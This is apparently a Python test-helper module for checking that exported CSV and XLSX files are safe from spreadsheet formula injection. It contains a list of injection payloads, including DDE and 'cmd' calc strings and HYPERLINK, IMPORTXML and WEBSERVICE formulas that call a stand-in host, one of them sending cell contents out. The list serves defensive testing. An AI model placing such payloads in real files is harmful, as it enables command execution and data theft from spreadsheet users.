"""Reading what was exported, as a spreadsheet would, without the code that wrote it."""

from __future__ import annotations

import csv
import io
import zipfile
from xml.etree import ElementTree as ET

_SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
TRIGGERS = "=+-@\t\r\n\0＝＋－＠"

PAYLOADS = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example/?x="&A1,"Click")', '=IMPORTXML("https://evil.example","//a")',
    '=WEBSERVICE("https://evil.example")', "=DDE(\"cmd\";\"/C calc\";\"x\")", "+1+1", "+cmd|' /C calc'!A0", "+34 600 000 000", "-1+1",
    "-2+3+cmd|' /C calc'!A0", "-", "--1", "@SUM(1+1)", "@A1", "@", "\t=1+1", "\r=1+1", "\n=1+1", "\t", "\r\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
    " =1+1",
    "   +1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\u2060@A1", "'=1+1", "''=1+1", "'+1", '"=1+1"', '",=1+1', "﹢1", "﹣1", "﹦1", "﹫A1",
    "==1", "=", "+", "=\n1", '=A1&"\t"',
)  # fmt: skip
"""What people try (T50); the last word on what a cell may begin with is TRIGGERS."""


def csv_cells(body: bytes, delimiter: str = ",") -> list[list[str]]:
    """The cells of a CSV by RFC 4180."""
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=delimiter, strict=True))


def xlsx_cells(body: bytes) -> list[list[str]]:
    """The cells of a workbook's first sheet. AssertionError when one holds a formula or a link."""
    with zipfile.ZipFile(io.BytesIO(body)) as book:
        names = book.namelist()
        sheet = ET.fromstring(book.read("xl/worksheets/sheet1.xml"))  # noqa: S314 - ours
    assert not any("rels" in name and "sheet1" in name for name in names), "a link"
    rows = []
    for row in sheet.iter(f"{_SHEET}row"):
        cells: list[str] = []
        for cell in row.iter(f"{_SHEET}c"):
            assert cell.find(f"{_SHEET}f") is None, "a formula"
            at = _column(cell.attrib["r"])
            cells += [""] * (at - len(cells))
            value = cell.find(f"{_SHEET}v")
            cells.append(_plain("".join(text.text or "" for text in cell.iter(f"{_SHEET}t")) if value is None else value.text or ""))
        rows.append(cells)
    return rows


def active(rows: list[list[str]]) -> list[str]:
    """Cells that a spreadsheet might compute."""
    return [cell for row in rows for cell in row if cell and cell[0] in TRIGGERS]


def _column(reference: str) -> int:
    number = 0
    for letter in reference.rstrip("0123456789"):
        number = number * 26 + ord(letter) - 64
    return number - 1


def _plain(text: str) -> str:
    """Control characters as the format escapes them (`_x0009_`)."""
    for code in (0, 9, 10, 13):
        text = text.replace(f"_x{code:04X}_", chr(code))
    return text
